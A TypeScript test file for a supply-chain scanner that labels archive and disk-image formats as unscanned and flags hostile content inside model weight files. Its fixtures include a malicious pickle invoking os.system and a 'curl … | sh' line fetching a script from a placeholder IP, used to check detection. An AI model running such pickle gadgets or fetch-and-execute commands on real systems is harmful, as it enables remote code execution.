/** Files that no format reads say what they are, and what lies in them as it is is still seen. */
import { expect, test } from 'vitest';
import { bufferInput } from '../../../src/supply/input.ts';
import { scanInput } from '../../../src/supply/scan.ts';
import { assemble } from '../../support/pickle-assembler.ts';

const scan = (name: string, bytes: Buffer): ReturnType<typeof scanInput> => scanInput(bufferInput(name, bytes), name);
const said = (name: string, bytes: Buffer): string => {
  const { verdict, findings } = scan(name, bytes);
  return `${verdict}: ${findings.map(({ message }) => message).join(' ')}`;
};
const padded = (text: string, length = 200): Buffer => Buffer.concat([Buffer.from(text, 'latin1'), Buffer.from(Array.from({ length }, (_, i) => (i * 151 + 200) & 0xff))]);

test.each([
  ['a.rar', 'Rar!\x1a\x07\x01\0', 'RAR'], ['a.cab', 'MSCF\0\0\0\0', 'CAB'], ['a.rpm', '\xed\xab\xee\xdb\x03\0', 'RPM'], ['a.Z', '\x1f\x9d\x90', 'compress'],
  ['a.qcow2', 'QFI\xfb\0\0\0\x03', 'QEMU'], ['pack-1.pack', 'PACK\0\0\0\x02', 'git'],
])('%s', (name, magic, what) => {
  expect(said(name, padded(magic))).toMatch(new RegExp(`^unscanned: This is .*${what}.* which is not read`));
});

test('images of discs are told by what stands far inside, and of disks by their end', () => {
  const disc = Buffer.alloc(40_000, 1);
  disc.write('CD001', 32_769, 'latin1');
  expect(said('a.iso', disc)).toMatch(/^unscanned: This is .*ISO 9660/);
  const disk = padded('\x78\xda', 4000);
  disk.write('koly', disk.length - 512, 'latin1');
  expect(said('a.bin', disk)).toMatch(/^unscanned: This is .*DMG/);
});

test('a pickle that an archive stores unpacked is seen, an ordinary one is none', () => {
  const acts = assemble('PROTO 2; GLOBAL os system; BINUNICODE id; TUPLE1; REDUCE; STOP');
  const keeps = assemble('PROTO 2; GLOBAL collections OrderedDict; EMPTY_TUPLE; REDUCE; STOP');
  const archive = (held: Buffer): Buffer => Buffer.concat([padded('Rar!\x1a\x07\x01\0'), held, padded('')]);
  expect(scan('a.rar', archive(acts)).verdict).toBe('malicious');
  expect(scan('a.rar', archive(acts)).findings.map(({ rule }) => rule).sort()).toEqual(['file.held-pickle', 'file.unknown-format']);
  expect(scan('a.rar', archive(keeps)).findings.map(({ rule }) => rule)).toEqual(['file.unknown-format']);
  expect(scan('weights', Buffer.concat([padded('\x01\x02\xff\xfe'), acts])).verdict).toBe('malicious');
});

test('weights of a model beside them are numbers; what lies in them is seen', () => {
  const numbers = padded('\x01\x02\xff\xfe', 4000);
  const acts = assemble('PROTO 2; GLOBAL os system; BINUNICODE id; TUPLE1; REDUCE; STOP');
  const beside = (models: Readonly<Record<string, string>>) => (path: string) => (models[path] === undefined ? undefined : bufferInput(path, Buffer.from(models[path], 'latin1')));
  const found = (name: string, bytes: Buffer, models: Readonly<Record<string, string>>): string => {
    const { verdict, findings } = scanInput(bufferInput(name, bytes), name, { beside: beside(models) });
    return [verdict, ...findings.map(({ rule }) => rule)].join(' ');
  };
  const net = '<?xml version="1.0"?><net name="m" version="11"></net>';
  expect(found('m.onnx.data', numbers, { 'm.onnx': '\x08\x08\x12\x07pytorch' })).toBe('benign file.raw-weights');
  expect(found('m.onnx_data_1', numbers, { 'm.onnx': '\x08\x08\x12\x07pytorch' })).toBe('benign file.raw-weights');
  expect(found('a/m.bin', numbers, { 'm.xml': net })).toBe('benign file.raw-weights');
  expect(found('group1-shard1of2.bin', numbers, { 'model.json': '{"format":"layers-model","weightsManifest":[]}' })).toBe('benign file.raw-weights');
  expect(found('m.bin', numbers, {})).toBe('unscanned file.unknown-format');
  expect(found('m.bin', numbers, { 'm.xml': '<settings/>' })).toBe('unscanned file.unknown-format');
  expect(found('m.bin', numbers, { 'n.xml': net })).toBe('unscanned file.unknown-format');
  expect(found('m.bin', Buffer.concat([numbers, acts, numbers]), { 'm.xml': net })).toBe('malicious file.raw-weights file.held-pickle');
  expect(found('m.bin', padded('Rar!\x1a\x07\x01\0'), { 'm.xml': net })).toBe('unscanned file.unknown-format');
});

test('a command among the bytes of a model of no known kind is told, words about commands are not', () => {
  const binary = (text: string): Buffer => Buffer.concat([padded('\x01\x02\xff\xfe'), Buffer.from(`\0\x04${text}\0\x01`, 'latin1'), padded('')]);
  expect(scan('m.weights', binary("os.execute('touch x')")).findings.map(({ rule }) => rule)).toEqual(['file.unknown-format', 'file.held-command']);
  expect(scan('m.weights', binary('curl -s http://203.0.113.7/a.sh | sh')).verdict).toBe('suspicious');
  expect(scan('m.weights', binary('system: execution of the bash tokenizer')).findings.map(({ rule }) => rule)).toEqual(['file.unknown-format']);
  // Of kinds that are known to hold files, texts may be about anything.
  expect(scan('a.rar', Buffer.concat([padded('Rar!\x1a\x07\x01\0'), binary('curl -s http://203.0.113.7/a.sh | sh')])).verdict).toBe('unscanned');
});
